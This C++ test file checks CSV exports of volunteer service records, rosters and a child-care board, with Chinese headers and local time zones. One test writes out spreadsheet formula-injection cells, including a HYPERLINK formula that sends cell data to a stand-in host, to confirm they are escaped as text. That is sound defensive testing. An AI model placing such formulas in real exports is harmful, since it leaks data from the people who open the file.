// CSV exports for spreadsheets: service records with the national record
// fields (and the demo's records read from the streams they name, as the
// whole log gives them; generated logs in tests/projections/
// service_records_test.cc), cells a spreadsheet would run written as text,
// Chinese headers and local times.

#include <algorithm>
#include <boost/json/parse.hpp>
#include <boost/test/unit_test.hpp>

#include "adapters/csv/csv_text.h"
#include "adapters/csv/exporter.h"
#include "engine/command_service.h"
#include "projections/service_records.h"
#include "tests/adapters/demo_log.h"
#include "tests/engine/opened_state.h"
#include "tests/projections/service_record_lines.h"

namespace homeward::csv {
namespace {

// The cell under `heading` in row `row` of an export.
std::string At(const std::vector<std::vector<std::string>>& rows, std::size_t row,
               const std::string& heading) {
  const auto& header = rows.at(0);
  const auto column = std::find(header.begin(), header.end(), heading);
  BOOST_TEST_REQUIRE((column != header.end()), "no column " + heading);
  return rows.at(row).at(static_cast<std::size_t>(column - header.begin()));
}

BOOST_AUTO_TEST_SUITE(csv_export_test)

BOOST_AUTO_TEST_CASE(service_records_carry_the_national_record_fields) {
  DemoLog demo;
  // Hours are confirmed after the build, which the demo plans two weeks ahead.
  CommandService service(demo.log, [] { return SystemClockMicros() + 30LL * 86400 * 1000000; });
  const CommandContext ctx{"shiyan", "test", "t", ""};
  VolunteerDetails wang = testing::OpenedVolunteer(demo.log, "shiyan", "v-wang").details;
  wang.id_number = "420303198203081235";
  wang.contact = "13800000001";
  wang.skills = {"心理疏导", "急救"};
  BOOST_TEST_REQUIRE(
      service.Execute(ctx, PeopleCommand{CorrectVolunteerDetails{"v-wang", wang, "补全"}}).ok());
  ConfirmHours confirm;
  confirm.activity_id = "library-maling";
  confirm.volunteer_id = "v-wang";
  confirm.confirmed_by = "校长郑老师";
  confirm.minutes = 150;
  const auto confirmed = service.Execute(ctx, ActivityCommand{confirm});
  BOOST_TEST_REQUIRE(confirmed.ok(), confirmed.status().ToString());
  const auto rows = ExportRows(demo.log, ExportKind::kServiceRecords,
                               ExportQuery{"shiyan", "", "", 0, "", "", "", ""});
  BOOST_TEST_REQUIRE(rows.ok());
  BOOST_TEST_REQUIRE(rows->size() == 2u);
  // Art. 5: who the volunteer is.
  BOOST_TEST(At(*rows, 1, "姓名") == "王芳");
  BOOST_TEST(At(*rows, 1, "性别") == "女");
  BOOST_TEST(At(*rows, 1, "出生日期") == "1982-03-08");
  BOOST_TEST(At(*rows, 1, "证件类型") == "居民身份证");
  // A spreadsheet would read 18 digits as a number and lose the last three.
  BOOST_TEST(At(*rows, 1, "证件号码") == "\t420303198203081235");
  BOOST_TEST(At(*rows, 1, "居住区域") == "十堰市");
  BOOST_TEST(At(*rows, 1, "联系方式") == "13800000001");
  BOOST_TEST(At(*rows, 1, "技能") == "心理疏导、急救");
  BOOST_TEST(At(*rows, 1, "服务类别") == "关爱留守儿童");
  // Art. 7: the service.
  BOOST_TEST(At(*rows, 1, "志愿服务组织") == "马岭小学");
  BOOST_TEST(At(*rows, 1, "服务项目") == "留守儿童之家 图书屋建设");
  BOOST_TEST(At(*rows, 1, "服务内容") == "图书屋建设");
  BOOST_TEST(At(*rows, 1, "服务时长(小时)") == "2.50");
  BOOST_TEST(At(*rows, 1, "负责人") == "校长郑老师");
  BOOST_TEST(At(*rows, 1, "记录人") == "校长郑老师");

  // One volunteer's records, and a period, are exported alone.
  const auto export_of = [&](std::string volunteer, std::string from, std::string to) {
    return ExportRows(demo.log, ExportKind::kServiceRecords,
                      ExportQuery{"shiyan", "", "", 0, "", volunteer, from, to});
  };
  BOOST_TEST(export_of("v-wang", "", "")->size() == 2u);
  BOOST_TEST(export_of("v-zhang", "", "")->size() == 1u);
  BOOST_TEST(export_of("", "2000-01-01", "2000-12-31")->size() == 1u);
  const auto malformed = export_of("", "2027-02-30", "");
  BOOST_TEST(malformed.status().code() == Code::kInvalidArgument);
  BOOST_TEST(malformed.status().message().find("from") != std::string::npos);

  // Once her personal data is erased, no record can name her.
  BOOST_TEST_REQUIRE(
      service.Execute(ctx, PeopleCommand{EraseVolunteerData{"v-wang", "本人申请"}}).ok());
  const auto after = ExportRows(demo.log, ExportKind::kServiceRecords,
                                ExportQuery{"shiyan", "", "", 0, "", "", "", ""});
  BOOST_TEST_REQUIRE(after.ok());
  BOOST_TEST(after->size() == 1u);
}

BOOST_AUTO_TEST_CASE(a_period_takes_each_activity_by_its_first_day_in_beijing_time) {
  // Given an activity that begins at 00:30 Beijing time on 2 March 2027
  // (16:30 UTC on 1 March), with an hour of v1's confirmed
  ServiceRecords records;
  Envelope e;
  e.stream_id = "shiyan/volunteer/v1";
  VolunteerDetails details;
  details.name = "王芳";
  records.Apply(e, VolunteerRegistered{"v1", "u", details});
  e.stream_id = "shiyan/activity/a1";
  ActivityPlanned plan;
  plan.activity_id = "a1";
  plan.unit_id = "u";
  plan.title = "守岁";
  plan.starts_at_us = 1803918600LL * 1000000;
  plan.ends_at_us = plan.starts_at_us + 3600LL * 1000000;
  records.Apply(e, plan);
  records.Apply(e, HoursConfirmed{"a1", "v1", 60, "高主任"});
  const auto taken = [&](std::string_view from, std::string_view to) {
    Result<RecordFilter> filter = PeriodFilter("", from, to);
    BOOST_TEST_REQUIRE(filter.ok(), filter.status().ToString());
    return records.Records("shiyan", *filter).size();
  };
  // Then it is of 2 March, not 1 March
  BOOST_TEST(taken("2027-03-02", "2027-03-02") == 1u);
  BOOST_TEST(taken("2027-03-01", "2027-03-01") == 0u);
  BOOST_TEST(taken("", "2027-03-01") == 0u);
  BOOST_TEST(taken("2027-03-02", "") == 1u);
  // and a period running backwards is refused
  BOOST_TEST(PeriodFilter("", "2027-03-02", "2027-03-01").status().code() ==
             Code::kInvalidArgument);
}

BOOST_AUTO_TEST_CASE(records_read_from_streams_follow_what_the_domain_records) {
  // Given the demo recorded through the domain's commands, where v-wang's
  // hours are confirmed, then corrected on her request, and the build's
  // unit renamed
  DemoLog demo;
  CommandService service(demo.log, [] { return SystemClockMicros() + 30LL * 86400 * 1000000; });
  const CommandContext ctx{"shiyan", "test", "t", ""};
  ConfirmHours confirm;
  confirm.activity_id = "library-maling";
  confirm.volunteer_id = "v-wang";
  confirm.confirmed_by = "校长郑老师";
  confirm.minutes = 150;
  const auto run = [&](auto command) {
    const auto done = service.Execute(ctx, command);
    BOOST_TEST_REQUIRE(done.ok(), done.status().ToString());
  };
  run(ActivityCommand{confirm});
  run(ActivityCommand{RequestHoursCorrection{"library-maling", "v-wang", 210, "路上两小时"}});
  run(ActivityCommand{DecideHoursCorrection{"library-maling", "v-wang", true, "高主任", "属实"}});
  run(PeopleCommand{RenameUnit{"maling", "马岭村小学"}});
  const auto lines = testing::WholeLogLines(demo.log, "shiyan");
  BOOST_TEST_REQUIRE(lines.contains("v-wang"));
  BOOST_TEST(lines.at("v-wang").front().find("马岭村小学") != std::string::npos);
  BOOST_TEST(lines.at("v-wang").front().find("|210|") != std::string::npos);
  // When each volunteer's records are read from their streams
  // Then every field is what the whole log gives
  for (const auto& [volunteer, expected] : lines) {
    BOOST_TEST(testing::StreamLines(demo.log, "shiyan", volunteer) == expected, volunteer);
  }
}

BOOST_AUTO_TEST_CASE(a_cell_a_spreadsheet_would_run_is_written_as_text) {
  const std::string csv = WriteCsv({{"title", "place"},
                                    {"=HYPERLINK(\"http://x/?\"&A1,\"点击\")", "-1层活动室"},
                                    {"@SUM(A1)", "+86 公园"},
                                    {"\t=1+1", "马岭小学"},
                                    {"\t420303198203081235", "3-2班"}});
  BOOST_TEST(csv.find("\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"点击\"\")\"") != std::string::npos,
             csv);
  BOOST_TEST(csv.find("\"'-1层活动室\"") != std::string::npos);
  BOOST_TEST(csv.find("\"'@SUM(A1)\"") != std::string::npos);
  BOOST_TEST(csv.find("\"'+86 公园\"") != std::string::npos);
  BOOST_TEST(csv.find("\"'\t=1+1\"") != std::string::npos);
  // Text that starts otherwise is left as it is.
  BOOST_TEST(csv.find("\"马岭小学\"") != std::string::npos);
  BOOST_TEST(csv.find("\"\t420303198203081235\"") != std::string::npos);
  BOOST_TEST(csv.find("\"3-2班\"") != std::string::npos);
}

// A unit on Xinjiang's clock (UTC+6) under the county federation: "urumqi".
void UrumqiUnit(CommandService& service, const CommandContext& ctx) {
  BOOST_TEST_REQUIRE(
      service
          .Execute(ctx, PeopleCommand{CreateUnit{"urumqi", "乌鲁木齐站", UnitKind::kAssociation,
                                                 "yunyang-fulian", "Asia/Urumqi"}})
          .ok());
}

BOOST_AUTO_TEST_CASE(exports_speak_chinese_and_local_time) {
  DemoLog demo;
  // A unit on Xinjiang's clock (UTC+6), and its activity at 09:00 there: 03:00 UTC.
  CommandService service(demo.log);
  const CommandContext ctx{"shiyan", "test", "t", ""};
  UrumqiUnit(service, ctx);
  PlanActivity far;
  far.activity_id = "far";
  far.unit_id = "urumqi";
  far.kind = ActivityKind::kOther;
  far.title = "远方的活动";
  far.starts_at_us = 1811818800LL * 1000000;  // 2027-06-01T03:00:00Z
  far.ends_at_us = far.starts_at_us + 2LL * 3600 * 1000000;
  const auto planned = service.Execute(ctx, ActivityCommand{far});
  BOOST_TEST_REQUIRE(planned.ok(), planned.status().ToString());
  // The trip starts at 09:00 in Shiyan, 01:00 UTC.
  const auto roster =
      ExportRows(demo.log, ExportKind::kRoster, ExportQuery{"shiyan", "", "", 0, "", "", "", ""});
  BOOST_TEST_REQUIRE(roster.ok(), roster.status().ToString());
  bool found = false;
  for (std::size_t r = 1; r < roster->size(); ++r) {
    if (At(*roster, r, "活动编号") != "trip-childrens-day") continue;
    found = true;
    BOOST_TEST(At(*roster, r, "开始时间").ends_with(" 09:00"), At(*roster, r, "开始时间"));
    BOOST_TEST(At(*roster, r, "结束时间").ends_with(" 17:00"));
    BOOST_TEST(At(*roster, r, "时区") == "Asia/Shanghai");
    BOOST_TEST(At(*roster, r, "类型") == "外出活动");
    BOOST_TEST(At(*roster, r, "状态") == "招募中");
  }
  BOOST_TEST(found);
  found = false;
  for (std::size_t r = 1; r < roster->size(); ++r) {
    if (At(*roster, r, "活动编号") != "far") continue;
    found = true;
    BOOST_TEST(At(*roster, r, "开始时间") == "2027-06-01 09:00");
    BOOST_TEST(At(*roster, r, "结束时间") == "2027-06-01 11:00");
    BOOST_TEST(At(*roster, r, "时区") == "Asia/Urumqi");
  }
  BOOST_TEST(found);
  // Hours as a spreadsheet reads a number, states in Chinese.
  const auto report =
      ExportRows(demo.log, ExportKind::kReport, ExportQuery{"shiyan", "", "", 0, "", "", "", ""});
  BOOST_TEST_REQUIRE(report.ok(), report.status().ToString());
  BOOST_TEST_REQUIRE(report->size() > 1u);
  for (std::size_t r = 1; r < report->size(); ++r) {
    const std::string hours = At(*report, r, "志愿服务时长(小时)");
    BOOST_TEST((hours.find('E') == std::string::npos && hours.find('.') != std::string::npos),
               hours);
    const std::string state = At(*report, r, "月报");
    BOOST_TEST((state == "未到期" || state == "按时上报" || state == "逾期" || state == "未上报"),
               state);
  }
  // The year's assessment: each unit of the county's tree, with its reports and stations.
  const auto assessed =
      ExportRows(demo.log, ExportKind::kAssessment,
                 ExportQuery{"shiyan", "", "", SystemClockMicros(), "", "", "", ""});
  BOOST_TEST_REQUIRE(assessed.ok(), assessed.status().ToString());
  BOOST_TEST_REQUIRE(assessed->size() == report->size());  // the units the report lists
  BOOST_TEST(assessed->at(0).at(6) == "按时上报月报");
  bool school = false;
  for (std::size_t r = 1; r < assessed->size(); ++r)
    school |= At(*assessed, r, "单位编号") == "maling";
  BOOST_TEST(school);
  const auto badly =
      ExportRows(demo.log, ExportKind::kAssessment,
                 ExportQuery{"shiyan", "", "", SystemClockMicros(), "27", "", "", ""});
  BOOST_TEST(badly.status().code() == Code::kInvalidArgument);
}

BOOST_AUTO_TEST_CASE(the_care_board_writes_its_last_contact_on_the_units_clock_in_chinese_words) {
  DemoLog demo;
  // A child of a unit on Xinjiang's clock (UTC+6), last talked to at
  // 2026-10-27T20:30:04Z: 02:30 the next day there, with no role holder yet.
  CommandService service(demo.log);
  const CommandContext ctx{"shiyan", "test", "t", ""};
  UrumqiUnit(service, ctx);
  ArchiveCard card;
  card.name = "阿依";
  card.date_of_birth = ParseDate("2016-05-01", "date_of_birth").value();
  BOOST_TEST_REQUIRE(
      service.Execute(ctx, PeopleCommand{RegisterChild{"ayi", "urumqi", card, "t"}}).ok());
  const RecordContact talk{"ayi", "talk-1", ContactKind::kTalk, "v-wang", 1793133004LL * 1000000,
                           20,    "谈心"};
  BOOST_TEST_REQUIRE(service.Execute(ctx, PeopleCommand{talk}).ok());
  const auto board = ExportRows(demo.log, ExportKind::kCareBoard,
                                ExportQuery{"shiyan", "", "", 0, "", "", "", ""});
  BOOST_TEST_REQUIRE(board.ok(), board.status().ToString());
  std::size_t row = 0;
  while (++row < board->size() && At(*board, row, "儿童编号") != "ayi") {
  }
  BOOST_TEST_REQUIRE(row < board->size());
  BOOST_TEST(At(*board, row, "最近联系") == "2026-10-28 02:30");
  BOOST_TEST(At(*board, row, "缺少角色") == "爱心妈妈；代理家长；快乐伙伴");
  // The API's format=csv (a document without zones): a row's own zone, else Beijing time.
  const auto doc = boost::json::parse(R"({"children": [
      {"child_id": "a", "name": "", "unit_id": "u", "roles": {"caring_mother": null,
       "proxy_parent": null, "happy_companion": null}, "help_pairs": [],
       "last_contact": "2026-10-27T20:30:04Z", "missing": ["proxy_parent", "happy_companion"],
       "no_recent_contact": false},
      {"child_id": "b", "name": "", "unit_id": "u", "roles": {"caring_mother": null,
       "proxy_parent": null, "happy_companion": null}, "help_pairs": [],
       "last_contact": "2026-10-27T20:30:04Z", "missing": [], "no_recent_contact": true,
       "time_zone": "Asia/Urumqi"}]})");
  const auto rows = ViewRows(ExportKind::kCareBoard, doc, false);
  BOOST_TEST_REQUIRE(rows.ok(), rows.status().ToString());
  BOOST_TEST(At(*rows, 1, "最近联系") == "2026-10-28 04:30");
  BOOST_TEST(At(*rows, 1, "缺少角色") == "代理家长；快乐伙伴");
  BOOST_TEST(At(*rows, 2, "最近联系") == "2026-10-28 02:30");
  BOOST_TEST(At(*rows, 2, "超期未联系") == "是");
}

BOOST_AUTO_TEST_SUITE_END()

}  // namespace
}  // namespace homeward::csv
